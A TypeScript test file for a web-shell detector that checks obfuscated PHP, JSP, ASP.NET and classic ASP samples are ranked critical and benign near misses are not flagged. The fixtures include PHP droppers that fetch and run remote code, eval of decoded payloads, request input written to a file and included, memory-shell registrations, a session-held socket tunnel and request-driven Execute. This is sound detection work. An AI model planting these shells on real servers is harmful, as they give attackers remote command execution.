/**
 * Forms read from the misses of a new tuning survey (75 public collections, twenty-second
 * session, issue 27), written here anew: each beside a near miss an application writes.
 */
import { describe, expect, it } from 'vitest';
import { foldPhpConstants } from '../../src/findings/web-shell/php-constants.js';
import { isRuleAlarm, topFinding } from '../support/top-finding.js';

const critical = (reason: RegExp) => ({
  severity: 'critical',
  reason: expect.stringMatching(reason),
});

describe('PHP constants: negated and percent-encoded names', () => {
  it('works out a string negated bit by bit, and urldecode byte by byte', () => {
    expect(foldPhpConstants(`<?php f(~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92");`)).toContain(
      `f('system')`,
    );
    expect(foldPhpConstants(`<?php f(~urldecode("%8C%86%8C%8B%9A%92"));`)).toContain(`f('system')`);
    expect(foldPhpConstants(`<?php f(urldecode('%73ys%74em'));`)).toContain(`f('system')`);
  });

  it('calls a parenthesised string as the function it names', () => {
    expect(foldPhpConstants(`<?php (~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92")($_GET['c']);`)).toContain(
      `system($_GET['c'])`,
    );
  });

  it('joins character codes mapped through chr()', () => {
    expect(
      foldPhpConstants(`<?php $u = join('', array_map('chr', [104, 116, 116, 112])); f($u);`),
    ).toContain(`f('http')`);
  });

  it('leaves a negated constant or variable, and codes mapped otherwise, as they are', () => {
    const page = `<?php error_reporting(E_ALL & ~E_NOTICE); $m = ~$mask; $s = implode(',', array_map('intval', [1, 2]));`;
    expect(foldPhpConstants(page)).toBe(page);
  });
});

describe('survey v8: PHP', () => {
  it('ranks a dropper fetching from a spliced URL and running it with perl critical', () => {
    const page = `<?php $url = $_GET['u']; exec('cd /tmp;wget ' . $url . 'k.txt;perl k.txt;rm -f k.txt*');`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(critical(/a dropper/));
    // A fetch the page keeps, and a tool it runs on its own data, are no dropper.
    const app = `<?php exec('wget https://example.org/feed.xml -O /tmp/feed.xml'); exec('php /srv/app/import.php');`;
    expect(isRuleAlarm('/var/www/html/cron.php', app)).toBe(false);
  });

  it('ranks decoded code cut into tokens, put back together and run, critical', () => {
    // The payload is the file's own tail, past what the rules read of a large file.
    const page = `<?php $fn = 'base64_decode'; $s1 = $fn(substr(file_get_contents(__FILE__), 400));
$tokens = token_get_all($s1); $code = '';
foreach ($tokens as $t) { if (is_array($t)) { $code .= $t[1]; } else { $code .= $t; } }
eval($code);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(critical(/eval\(\) on decoded/));
    // A formatter tokenises a file it reads, and runs nothing.
    const formatter = `<?php $src = file_get_contents($argv[1]); $out = '';
foreach (token_get_all($src) as $t) { $out .= is_array($t) ? $t[1] : $t; } echo $out;`;
    expect(isRuleAlarm('/var/www/html/f.php', formatter)).toBe(false);
  });

  it('ranks code fetched by a function that spells out its URL, saved and included, critical', () => {
    const page = `<?php function fetchRemote($host, $path) { return @file_get_contents("https://$host$path"); }
$payload = fetchRemote(strrev('moc.elpmaxe'), '/x.txt');
$t = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($t, $payload); include$t; unlink($t);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(critical(/downloads/));
    // Fetched data decoded and shown is no dropper.
    const feed = `<?php function fetchRemote($host, $path) { return @file_get_contents("https://$host$path"); }
$data = json_decode(fetchRemote('api.example.org', '/rates'), true); echo htmlspecialchars($data['eur']);`;
    expect(isRuleAlarm('/var/www/html/rates.php', feed)).toBe(false);
  });

  it('ranks request input written through fopen() and fwrite(), then included, critical', () => {
    const page = `<?php $f = fopen("temp.php", "w"); fwrite($f, "<?php " . $_POST['a'] . ' ?>'); fclose($f); include('temp.php');`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(
      critical(/includes it \(the request run as PHP\)/),
    );
    // A log of the request, and a template included: not the file written.
    const log = `<?php $f = fopen("access.log", "a"); fwrite($f, $_POST['a'] . "\\n"); fclose($f); include('header.php');`;
    expect(isRuleAlarm('/var/www/html/l.php', log)).toBe(false);
  });

  it("ranks a page reading PHP's own memory maps critical", () => {
    const page = `<?php $cmd = $_GET['c']; $maps = file_get_contents('/proc/self/maps'); pwn($cmd, $maps);`;
    expect(topFinding('/var/www/html/a.php', page)).toMatchObject(
      critical(/disable_functions bypass/),
    );
    const status = `<?php $m = file_get_contents('/proc/meminfo'); echo nl2br(htmlspecialchars($m)); echo $_GET['x'] ?? '';`;
    expect(isRuleAlarm('/var/www/html/m.php', status)).toBe(false);
  });
});

describe('survey v8: Java and ASP.NET memory shells', () => {
  it('ranks a page adding a filter to the running application critical', () => {
    const page = `<%@ page import="javax.servlet.*" %><%
ServletContext ctx = request.getServletContext();
FilterRegistration.Dynamic d = ctx.addFilter("f", new CmdFilter());
d.addMappingForUrlPatterns(null, true, "/*"); %>`;
    expect(topFinding('/usr/local/tomcat/webapps/ROOT/a.jsp', page)).toMatchObject(
      critical(/memory shell/),
    );
    // A map's listener in the page's script, and an attribute read, are no filter.
    const map = `<%= request.getServletContext().getAttribute("title") %>
<script>google.maps.event.addListener(marker, 'click', function () { open(); });</script>`;
    expect(isRuleAlarm('/usr/local/tomcat/webapps/ROOT/m.jsp', map)).toBe(false);
  });

  it('ranks a page registering a virtual path provider critical', () => {
    const page = `<%@ Page Language="C#" %><%@ Import Namespace="System.Web.Hosting" %>
<script runat="server">void Page_Load() { HostingEnvironment.RegisterVirtualPathProvider(new P()); }</script>`;
    expect(topFinding('/inetpub/wwwroot/v.aspx', page)).toMatchObject(critical(/memory shell/));
  });
});

describe('survey v8: ASP.NET and classic ASP', () => {
  it('ranks a page keeping a socket in the session for later requests critical', () => {
    const page = `<%@ Page Language="C#" %><script runat="server">
void Page_Load() { string host = Request.QueryString["h"];
  Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  s.Connect(new IPEndPoint(IPAddress.Parse(host), 3389)); Session.Add("sock", s); }</script>`;
    expect(topFinding('/inetpub/wwwroot/t.aspx', page)).toMatchObject(critical(/socket tunnel/));
    // A mail check that closes its client and keeps a string.
    const check = `<%@ Page Language="C#" %><script runat="server">
void Page_Load() { var c = new TcpClient("mail.example.org", 25); c.Close(); Session["checked"] = Request.QueryString["u"]; }</script>`;
    expect(isRuleAlarm('/inetpub/wwwroot/c.aspx', check)).toBe(false);
  });

  it("ranks a class's Property Let that runs its value, set from the request, critical", () => {
    const page = `<%
Class K
  Public Property Let run(v)
    Execute(v)
  End Property
End Class
Set k = New K
k.run = Request("c")
%>`;
    expect(topFinding('/inetpub/wwwroot/a.asp', page)).toMatchObject(
      critical(/a function of its own that runs its argument/),
    );
    const store = `<%
Class K
  Private m
  Public Property Let name(v)
    m = v
  End Property
End Class
Set k = New K
k.name = Request("n")
Response.Write Server.HTMLEncode(Request("n"))
%>`;
    expect(isRuleAlarm('/inetpub/wwwroot/b.asp', store)).toBe(false);
  });
});
